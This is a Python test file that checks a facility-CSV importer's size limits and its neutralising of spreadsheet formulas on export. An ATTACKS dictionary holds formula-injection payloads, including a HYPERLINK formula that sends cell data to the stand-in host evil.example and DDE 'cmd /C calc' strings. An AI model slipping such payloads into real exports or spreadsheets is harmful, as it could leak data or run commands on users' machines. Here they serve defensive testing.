"""Facility CSV limits: 100 columns, 100,000 rows, a linear header check, listed problems capped;
exported cells are safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import time

import pytest

from scalpmap.csv_safety import neutralise_formula
from scalpmap.facilities import csv_io
from scalpmap.facilities.csv_io import (
    COLUMNS,
    MAX_COLUMNS,
    FacilityCsvError,
    read_facilities_csv,
    write_facilities_csv,
)

HEADER = ",".join(COLUMNS)
ROW = "Laser {i},1 High St,Leeds,GB,53.8,-1.55,,,Nd:YAG 1064 ps,yes,I-VI,"


def _error(data: str) -> FacilityCsvError:
    with pytest.raises(FacilityCsvError) as raised:
        read_facilities_csv(data.encode(), source="big.csv")
    assert "\n" not in str(raised.value)
    return raised.value


def test_more_than_100_columns_is_one_line_error() -> None:
    header = HEADER + "".join(f",extra{i}" for i in range(MAX_COLUMNS - len(COLUMNS) + 1))
    error = _error(f"{header}\n")
    assert str(error).startswith("big.csv has 101 columns; a facility CSV has at most 100")
    assert "nothing imported" in str(error) and not error.problems
    at_limit = HEADER + "".join(f",extra{i}" for i in range(MAX_COLUMNS - len(COLUMNS)))
    assert "unknown 'extra0'" in str(_error(f"{at_limit}\n"))  # 100 columns: looked at


def test_a_50000_column_header_is_refused_at_once() -> None:
    header = ",".join(["name"] * 50_000)  # the 100 KB header that took 20 s
    start = time.perf_counter()
    error = _error(f"{header}\n")
    assert time.perf_counter() - start < 5.0  # was 20 s; a few ms when refused at once
    assert "50,000 columns" in str(error)


def test_repeated_columns_are_found_in_one_pass() -> None:
    header = ",".join([*COLUMNS, "name", "city", "city"])
    assert "repeated city, name" in str(_error(f"{header}\n"))


def test_more_than_the_row_limit_is_one_line_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_io, "MAX_ROWS", 3)
    rows = "\n".join(ROW.format(i=i) for i in range(3))
    assert len(read_facilities_csv(f"{HEADER}\n\n{rows}\n\n".encode())) == 3
    error = _error(f"{HEADER}\n{rows}\n{ROW.format(i=9)}\n")
    assert str(error) == (
        "big.csv has more than 3 rows; split it into files of at most 3 facilities; "
        "nothing imported"
    )


def test_the_real_row_limit_is_100000() -> None:
    assert csv_io.MAX_ROWS == 100_000 and csv_io.MAX_COLUMNS == 100


def test_problems_listed_are_capped_but_all_bad_rows_counted(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(csv_io, "MAX_LISTED_PROBLEMS", 5)
    bad = "\n".join(f"Bad {i},,Leeds,GB,91,0,,,Nd:YAG 1064 ps,yes,," for i in range(8))
    error = _error(f"{HEADER}\n{bad}\n")
    assert str(error) == "8 bad rows in big.csv; nothing imported; the first 5 problems are listed"
    assert [p.split(":")[0] for p in error.problems] == [f"line {n}" for n in range(2, 7)]


ATTACKS = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "address": "+cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "city": "-2+3",
    "phone": "\t=1+1",
    "email": "\r=1+1",
}


def test_export_neutralises_formula_prefixes() -> None:
    row = {name: f"plain {name}" for name in COLUMNS} | ATTACKS | {"lat": "-1.55"}
    cells = next(csv.DictReader(io.StringIO(write_facilities_csv([row]), newline="")))
    for name, attack in ATTACKS.items():
        assert cells[name] == "'" + attack, name
    assert cells["lat"] == "-1.55"  # a number is no formula; it stays a number
    assert cells["country"] == "plain country"
    for cell in cells.values():
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


def test_neutralised_cells_read_back_to_the_same_values() -> None:
    row = dict(zip(COLUMNS, ROW.format(i=1).split(","), strict=True))
    row |= {"name": ATTACKS["name"], "notes": ATTACKS["notes"], "phone": "+44 113 496 0000"}
    (record,) = read_facilities_csv(write_facilities_csv([row]).encode())
    assert record.name == ATTACKS["name"] and record.notes == ATTACKS["notes"]
    assert record.phone == "+44 113 496 0000" and (record.lat, record.lon) == (53.8, -1.55)


@pytest.mark.parametrize("value", ["", "Leeds", "'quoted", "1.5", "-0.25", "+3", "1e-3"])
def test_harmless_cells_are_unchanged(value: str) -> None:
    assert neutralise_formula(value) == value
